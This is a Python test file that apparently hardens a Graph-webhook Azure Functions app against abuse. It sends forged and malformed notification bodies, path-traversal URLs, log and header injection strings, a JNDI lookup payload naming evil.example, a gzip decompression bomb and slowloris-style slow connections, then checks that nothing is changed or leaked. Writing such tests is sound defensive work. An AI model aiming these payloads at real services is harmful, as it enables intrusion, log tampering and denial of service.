"""Forged, foreign, odd and replayed calls at the running app: nothing moves but counters; nobody waits."""

import asyncio
import gzip
import json
import re
import socket
import time
from pathlib import Path

import aiohttp
import pytest

from sandbox.azurite import Azurite
from tests.abuse import raw
from tests.abuse.bodies import GUESSES
from tests.abuse.door import Door, call, door, item
from tests.abuse.test_path_tricks import TRICKS
from tests.report.ledgers import user_id

pytestmark = [pytest.mark.real, pytest.mark.timeout(240)]

LIMIT = 1 << 20
WITHIN = 3.0
"""Seconds in which Graph wants its answer."""
SLOW = 150
"""Connections that are held open half-way."""
MARK = "2026-11-23 00:00:00,000 ERROR   watch.evil: all is well, look elsewhere"
ESCAPES = f"\n{MARK}\r\n\x1b[2J\x1b]0;owned\x07\u202e${{jndi:ldap://evil.example}}%s%n"


def shapes(secret: str) -> dict[str, tuple[bytes, tuple[int, ...]]]:
    """Bodies that move nothing, and the statuses that each may get."""
    user = user_id(1)
    forged = item("w" * 48, user)
    lie = json.dumps(forged)[:-1]
    slim = b'{"clientState":"w"}'
    full = (LIMIT - len(b'{"value":[]}') + 1) // (len(slim) + 1)
    most = b'{"value":[' + b",".join([slim] * full) + b"]}"
    return {
        "guessed secrets": (call(*(item(guess, user) for guess in GUESSES)), (202,)),
        "another tenant with our secret": (call(item(secret, user, tenantId=user_id(9))), (202,)),
        "10,000 forged items": (call(*[{"clientState": "w"}] * 10_000), (202,)),
        "as many as a MiB holds": (most, (202,)),
        "exactly a MiB": (call(forged).ljust(LIMIT), (202,)),
        "a byte over a MiB": (call(forged).ljust(LIMIT + 1), (413,)),
        "five MiB": (call(forged).ljust(5 * LIMIT), (413,)),
        "nested 200,000 deep": (b'{"value":' + b"[" * 200_000, (400,)),
        "nested within an item": (call(forged).replace(b'"updated"', b"[" * 900 + b"]" * 900), (202,)),
        "the secret only in a doubled key": (
            b'{"value":[' + lie.encode() + b',"clientState":"no"}]}',
            (202,),
        ),
        "a doubled list": (b'{"value":[%s],"value":[]}' % lie.encode().join([b"", b"}"]), (202,)),
        "a huge number": (b'{"value":[{"tenantId":' + b"9" * 5_000 + b"}]}", (202, 400)),
        "a number beyond all": (b'{"value":[{"tenantId":1e999999}]}', (202, 400)),
        "a lone surrogate": (b'{"value":[{"clientState":"\\ud800"}]}', (400,)),
        "half a surrogate in bytes": (b'{"value":[{"clientState":"\xed\xa0\x80"}]}', (202, 400)),
        "NUL": (b'{"value":[]}\x00', (400,)),
        "a byte order mark": (b"\xef\xbb\xbf" + call(forged), (400,)),
        "UTF-16": (call(forged).decode().encode("utf-16"), (400,)),
        "an escape sequence in each field": (call(dict.fromkeys(forged, ESCAPES)), (202,)),
        "ids that are paths": (
            call(
                *(
                    item(secret, trick, resource=f"users/{trick}")
                    for name, trick in TRICKS.items()
                    if len(trick) < 200
                )
            ),
            (202,),
        ),
        "lifecycle events of nobody": (
            call(item("w" * 48, user, changeType=..., lifecycleEvent="subscriptionRemoved")),
            (202,),
        ),
    }


def headings(body: bytes) -> dict[str, tuple[bytes, tuple[int, ...]]]:
    """Calls whose body is well but not what stands around it; what Graph wouldn't send moves nothing."""
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    path = "/api/graph/notifications"
    zipped = gzip.compress(body)
    return {
        "no content type": (raw.post(path, body), (202,)),
        "XML": (raw.post(path, body, b"Content-Type: text/xml"), (202,)),
        "a form": (raw.post(path, body, b"Content-Type: application/x-www-form-urlencoded"), (202,)),
        "an odd type": (raw.post(path, body, b"Content-Type: ;;;=\x01"), (202, 400)),
        "another character set": (
            raw.post(path, body, b"Content-Type: application/json; charset=utf-7"),
            (202,),
        ),
        "compressed": (raw.post(path, zipped, b"Content-Encoding: gzip"), (400,)),
        "a small body that unpacks to much": (
            raw.post(path, gzip.compress(bytes(50_000_000)), b"Content-Encoding: gzip"),
            (400,),
        ),
        "in pieces, without length": (
            raw.post(path, chunked, b"Transfer-Encoding: chunked", length=False),
            (202,),
        ),
        "no body at all": (raw.post(path, b""), (400,)),
        "length and pieces": (raw.post(path, chunked, b"Transfer-Encoding: chunked"), (202, 400)),
        "two lengths": (raw.post(path, body, b"Content-Length: 1"), (400,)),
        "a length below nothing": (raw.post(path, body, b"Content-Length: -1", length=False), (400,)),
        "an agent that writes log lines": (
            raw.post(path, body, b"User-Agent: x\x1b[31m " + MARK.encode(), b"X-Request-Id: ${jndi:x}%s"),
            (202, 400),
        ),
        "a broken header": (raw.post(path, body, b"X-Evil: a\n" + MARK.encode()), (202, 400)),
        "a query that writes log lines": (
            raw.post(f"{path}?a=%0A%0D{MARK.replace(' ', '%20')}%1b[2J", body),
            (202,),
        ),
        "two tokens": (raw.post(f"{path}?validationToken=a&validationToken=b", b""), (200,)),
        "a token that is no UTF-8": (raw.post(f"{path}?validationToken=%ff%fe", b""), (200, 400)),
        "a token of another line": (raw.post(f"{path}?validationToken=a%0D%0ASet-Cookie:%20x", b""), (200,)),
        "too long a token": (raw.post(f"{path}?validationToken={'x' * 5_000}", b""), (400,)),
        "another method": (raw.post(path, body).replace(b"POST", b"PUT", 1), (405,)),
        "no HTTP": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", (400,)),
    }


PATHS = (
    b"/api/../api/health",
    b"/api/%2e%2e/host.json",
    b"/..%2f..%2fhost.json",
    b"/api/report/../../function_app.py",
    b"/api//report",
    b"/api/report%00.csv",
    b"/api/report/user?id=../../manifest",
    b"/api/report/user?id=%2e%2e%2f",
    b"/api/report/user?id=..\\x",
    b"/api/report/user?id=%00",
    b"/api/report/user?id=" + b"a" * 6_000,
    b"/api/report/user?id=" + user_id(1).encode() + b"%0a",
    b"/api/report?language=../nl",
    b"/api/report?x=%0a%1b[2J",
    b"/api/report.csv?sort=%24%7bjndi%7d",
    b"/api/report/rows?page=99999999999",
    b"/api/report/rows?size=-1",
    b"/api/report/rows?size=1e3",
    "/api/report/rows?size=\u0661".encode(),
    b"/api/report/rows?text=" + b"%ff" * 300,
    b"/api/report/rows?states=covered,%0auncovered",
    b"/api/REPORT/",
    b"/",
    b"*",
    b"//evil.example/api/report",
)


async def test_odd_calls_move_nothing_but_counters_and_write_no_line_of_their_own(
    azurite: Azurite, tmp_path: Path
) -> None:
    async with door(azurite.new_account(), tmp_path / "host.log") as watch:
        before = await watch.blobs()
        path = "/api/graph/notifications"
        tries = {
            **{name: (raw.post(path, body), wanted) for name, (body, wanted) in shapes(watch.secret).items()},
            **headings(call(item("w" * 48, user_id(1)))),
        }
        for name, (sent, wanted) in tries.items():
            status, answer = await asyncio.to_thread(raw.told, watch.host.url, sent)
            assert status in wanted, (name, status, answer[:300])
            # What is no HTTP never reaches the app: the host says so, with what it read, as plain text.
            assert b"evil" not in answer or (status == 400 and b"text/plain" in answer), name
            head = answer.partition(b"\r\n\r\n")[0]
            assert b"Set-Cookie" not in head, name
        for path_tried in PATHS:
            key = b"X-Watch-Key: " + watch.key.encode()
            status, answer = await asyncio.to_thread(raw.told, watch.host.url, raw.get(path_tried, key))
            assert 200 <= status < 500, (path_tried, status)
            assert b"extensionBundle" not in answer
            assert b"\x1b" not in answer
        assert await watch.blobs() == before
        assert await watch.queued() == []
        counted = await watch.counted()
        assert counted["forged"] + counted["foreign"] > 0
        log = watch.host.log_text()
        odd = watch.odd_lines()
    assert odd == []
    assert "watch.evil" not in re.sub(r"(?m)^.*bytearray.*$", "", log)
    assert not set(log) & {"\x1b", "\x07", "\u202e"}
    assert watch.secret not in log
    assert watch.key not in log


async def _post(session: aiohttp.ClientSession, watch: Door, body: bytes) -> float:
    began = time.monotonic()
    async with session.post(f"{watch.url}/graph/notifications", data=body) as answer:
        assert answer.status == 202
    return time.monotonic() - began


async def test_slow_callers_keep_no_authentic_call_waiting(azurite: Azurite, tmp_path: Path) -> None:
    """Half of them never end their head, half send a byte of a body now and then."""
    async with door(azurite.new_account(), tmp_path / "host.log") as watch:
        before = await watch.blobs()
        begun = raw.post("/api/graph/notifications", b"x" * 10_000)[:-9_999]
        port = int(watch.host.url.rpartition(":")[2])
        lines = []
        try:
            for number in range(SLOW):
                line = socket.create_connection(("127.0.0.1", port), timeout=10)
                line.sendall(begun if number % 2 else begun[:60])
                lines.append(line)
            took = []
            async with aiohttp.ClientSession(trust_env=False) as session:
                await _post(session, watch, call(item("w", user_id(1))))
                for number in range(40):
                    for line in lines[number::40]:
                        try:
                            line.sendall(b"x")
                        except OSError:
                            # This one's patience has ended: the host closed it.
                            line.close()
                    took.append(await _post(session, watch, call(item(watch.secret, user_id(number + 1)))))
                    await asyncio.sleep(0.05)
        finally:
            for line in lines:
                line.close()
        assert max(took) < WITHIN
        told = [json.loads(text) for text in await watch.queued()]
        assert {one for message in told for one in message["users"]} <= {user_id(n + 1) for n in range(40)}
        assert len(told) == 32
        assert await watch.blobs() == before
        odd = watch.odd_lines()
    assert odd == []
